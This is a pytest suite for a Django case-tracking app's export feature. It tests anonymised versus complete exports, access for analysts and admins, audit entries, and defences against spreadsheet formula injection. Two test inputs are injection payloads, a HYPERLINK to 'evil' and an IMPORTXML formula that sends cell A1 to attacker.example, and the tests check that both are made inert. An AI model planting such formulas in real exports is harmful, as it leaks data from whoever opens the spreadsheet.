"""Case exports: the row builders and writers (`marsad.web.cases.exports`) and the export page
(anonymised for analysts and admins, complete for admins only, streamed, audited)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date, timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.http import StreamingHttpResponse
from django.test import Client
from django.utils import timezone

from marsad.web.cases import actions
from marsad.web.cases.exports import (
    ANONYMISED_COLUMNS,
    ExportKind,
    Filters,
    anonymised_row,
    case_pseudonym,
    complete_row,
    csv_cell,
    csv_stream,
    iter_rows,
    json_stream,
    matching_ids,
)
from marsad.web.cases.models import AuditEntry, Case
from marsad.web.cases.states import State

from .conftest import PASSPHRASE, make_staff

Maker = Callable[[User | None], Client]
PERSONAL = ["سلمى", "+970 59 000 0000", "تم تعليق حسابي", "instagram.com/p/Cx1example"]


def copy_of(case: Case, code: str, **changes: Any) -> Case:
    other = Case.objects.get(pk=case.pk)
    other.pk, other.receipt_code = None, code
    for name, value in changes.items():
        setattr(other, name, value)
    other.save()
    return other


def body(response: Any) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")  # type: ignore[arg-type]


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


# --- the pure parts ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-3, "-3"),
        (date(2024, 5, 1), "2024-05-01"),
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+972 50 000 0000", "'+972 50 000 0000"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("حسابي", "حسابي"),
        ([{"a": 1}], '[{"a": 1}]'),
    ],
)
def test_csv_cells_are_plain_text_and_formulas_are_made_inert(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_stream_writes_a_bom_a_header_and_one_line_per_row() -> None:
    rows = [{"a": "x,y", "b": 'say "hi"'}, {"a": "سطر\nثان", "b": None}]
    text = "".join(csv_stream(rows, ["a", "b"]))
    assert read_csv(text) == [{"a": "x,y", "b": 'say "hi"'}, {"a": "سطر\nثان", "b": ""}]


def test_json_stream_is_one_valid_array_even_when_empty() -> None:
    rows = [{"when": date(2024, 1, 2), "n": 1}, {"when": None, "n": 2}]
    assert json.loads("".join(json_stream(rows))) == [
        {"when": "2024-01-02", "n": 1},
        {"when": None, "n": 2},
    ]
    assert json.loads("".join(json_stream([]))) == []


def test_the_pseudonym_is_stable_keyed_and_different_for_each_case() -> None:
    assert case_pseudonym(7) == case_pseudonym(7)
    assert case_pseudonym(7) != case_pseudonym(8)
    assert case_pseudonym(7).startswith("case_") and len(case_pseudonym(7)) == 21


def test_an_anonymised_row_holds_nothing_personal(filed_case: Case) -> None:
    (row,) = iter_rows(ExportKind.ANONYMISED, [filed_case.id])
    assert set(row) == set(ANONYMISED_COLUMNS)
    assert row["case"] == case_pseudonym(filed_case.id)
    assert row["violation_type"] == "account_suspension" and row["platform"] == "instagram"
    assert row["received_on"] == filed_case.received_at.date()
    text = json.dumps(row, default=str, ensure_ascii=False)
    for secret in [*PERSONAL, filed_case.receipt_code, "signal"]:
        assert secret not in text


def test_a_complete_row_holds_everything_decrypted(filed_case: Case, documenter: User) -> None:
    actions.add_staff_note(filed_case, "spoke to her lawyer", documenter)
    actions.reporter_add_information(filed_case, "they deleted a second account")
    (row,) = iter_rows(ExportKind.COMPLETE, [filed_case.id])
    assert row == complete_row(Case.objects.get(pk=filed_case.pk))
    assert row["receipt_code"] == filed_case.receipt_code
    assert row["reporter_name"] == "سلمى" and row["contact"] == "+970 59 000 0000"
    assert [(n["author"], n["text"]) for n in row["notes"]] == [
        ("dina", "spoke to her lawyer"),
        ("reporter", "they deleted a second account"),
    ]
    assert row["escalations"] == [] and row["evidence"] == []


def test_rows_come_in_chunks_in_the_order_asked(filed_case: Case) -> None:
    cases = [filed_case, *(copy_of(filed_case, f"CHNK-AAAA-{i}{i}{i}{i}") for i in "23456")]
    ids = [c.id for c in reversed(cases)]
    rows = list(iter_rows(ExportKind.ANONYMISED, ids, chunk=2))
    assert [r["case"] for r in rows] == [case_pseudonym(i) for i in ids]
    assert anonymised_row(filed_case)["case"] == rows[-1]["case"]


def test_matching_ids_filter_by_state_and_date_and_leave_withdrawn_cases_out_of_anonymised(
    filed_case: Case,
) -> None:
    old = copy_of(filed_case, "OLDC-AAAA-2222", received_at=timezone.now() - timedelta(days=40))
    gone = copy_of(filed_case, "GONE-AAAA-2222", state=State.WITHDRAWN)
    every = Filters()
    assert matching_ids(ExportKind.ANONYMISED, every) == [old.id, filed_case.id]
    assert matching_ids(ExportKind.COMPLETE, every) == [old.id, filed_case.id, gone.id]
    recent = Filters(received_from=timezone.now().date() - timedelta(days=1))
    assert matching_ids(ExportKind.ANONYMISED, recent) == [filed_case.id]
    until = Filters(received_to=timezone.now().date() - timedelta(days=30))
    assert matching_ids(ExportKind.COMPLETE, until) == [old.id]
    withdrawn = Filters(states=("withdrawn",))
    assert matching_ids(ExportKind.COMPLETE, withdrawn) == [gone.id]
    assert matching_ids(ExportKind.ANONYMISED, withdrawn) == []


# --- the page --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"),
    [("documenter", 403), ("verifier", 403), ("analyst", 200), ("admin", 200), (None, 403)],
)
def test_the_export_page_opens_for_analysts_and_admins(
    db: None, client_for: Maker, persona: str | None, status: int
) -> None:
    client = client_for(make_staff(f"user-{persona}", persona))
    assert client.get("/staff/exports/").status_code == status
    response = client.post("/staff/exports/", {"kind": "anonymised", "format": "csv"})
    assert response.status_code == (200 if status == 200 else 403)
    audited = AuditEntry.objects.filter(action="cases.exported").exists()
    assert audited == (status == 200)


def test_anonymous_visitors_are_sent_to_the_login_page(db: None, client_for: Maker) -> None:
    response = client_for(None).get("/staff/exports/")
    assert response.status_code == 302 and "/staff/login/" in response["Location"]


def test_analysts_are_not_offered_the_complete_export(
    db: None, analyst: User, client_for: Maker
) -> None:
    page = client_for(analyst).get("/staff/exports/").content.decode()
    assert 'value="anonymised"' in page and 'value="complete"' not in page
    admin_page = client_for(make_staff("boss", "admin")).get("/staff/exports/").content.decode()
    assert 'value="complete"' in admin_page


def test_an_analyst_downloads_an_anonymised_csv_and_the_export_is_audited(
    filed_case: Case, analyst: User, client_for: Maker
) -> None:
    copy_of(filed_case, "SECO-NDAA-2222", state=State.VERIFIED)
    response = client_for(analyst).post(
        "/staff/exports/", {"kind": "anonymised", "format": "csv", "states": ["verified"]}
    )
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    text = body(response)
    for secret in [*PERSONAL, filed_case.receipt_code, "SECO-NDAA-2222"]:
        assert secret not in text
    rows = read_csv(text)
    assert [r["state"] for r in rows] == ["verified"]
    assert list(rows[0]) == list(ANONYMISED_COLUMNS)
    entry = AuditEntry.objects.get(action="cases.exported")
    assert entry.actor == analyst
    assert entry.details == {
        "kind": "anonymised",
        "format": "csv",
        "rows": 1,
        "states": ["verified"],
        "received_from": None,
        "received_to": None,
    }


def test_an_analyst_asking_for_the_complete_export_is_refused(
    filed_case: Case, analyst: User, client_for: Maker
) -> None:
    response = client_for(analyst).post("/staff/exports/", {"kind": "complete", "format": "json"})
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="cases.exported").exists()


def test_an_admin_downloads_the_complete_json_with_personal_data_and_notes(
    filed_case: Case, admin: User, client_for: Maker
) -> None:
    actions.add_staff_note(filed_case, "evidence checked", admin)
    response = client_for(admin).post(
        "/staff/exports/",
        {"kind": "complete", "format": "json", "received_from": filed_case.received_at.date()},
    )
    assert response["Content-Type"] == "application/json"
    (row,) = json.loads(body(response))
    assert row["id"] == filed_case.id and row["receipt_code"] == filed_case.receipt_code
    assert row["description"] == filed_case.description and row["reporter_name"] == "سلمى"
    assert row["notes"][0]["text"] == "evidence checked"
    details = AuditEntry.objects.get(action="cases.exported").details
    assert (details["kind"], details["format"], details["rows"]) == ("complete", "json", 1)
    assert details["received_from"] == filed_case.received_at.date().isoformat()


def test_a_withdrawn_case_is_only_in_the_complete_export(
    filed_case: Case, admin: User, client_for: Maker
) -> None:
    actions.reporter_withdraw(filed_case)
    client = client_for(admin)
    anonymised = body(client.post("/staff/exports/", {"kind": "anonymised", "format": "json"}))
    assert json.loads(anonymised) == []
    complete = body(client.post("/staff/exports/", {"kind": "complete", "format": "json"}))
    assert [r["state"] for r in json.loads(complete)] == ["withdrawn"]


@pytest.mark.parametrize(
    "bad",
    [
        {"format": "xlsx"},
        {"kind": "everything"},
        {"states": ["lost"]},
        {"received_from": "2024-05-02", "received_to": "2024-05-01"},
        {"received_from": "yesterday"},
    ],
)
def test_bad_export_requests_are_shown_and_nothing_is_exported(
    filed_case: Case, admin: User, client_for: Maker, bad: dict[str, Any]
) -> None:
    data = {"kind": "anonymised", "format": "csv"} | bad
    response = client_for(admin).post("/staff/exports/", data)
    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()
    assert not AuditEntry.objects.filter(action="cases.exported").exists()


def test_a_reporter_formula_cannot_run_in_the_admins_spreadsheet(
    db: None, admin: User, client_for: Maker, term: Callable[[str, str], Any]
) -> None:
    report = actions.NewReport(
        violation_type=term("violation_type", "hacking"),
        description='=IMPORTXML("http://attacker.example/?"&A1, "//a")',
        consent=True,
    )
    actions.submit_report(report, PASSPHRASE)
    text = body(client_for(admin).post("/staff/exports/", {"kind": "complete", "format": "csv"}))
    (row,) = read_csv(text)
    assert row["description"].startswith("'=IMPORTXML")
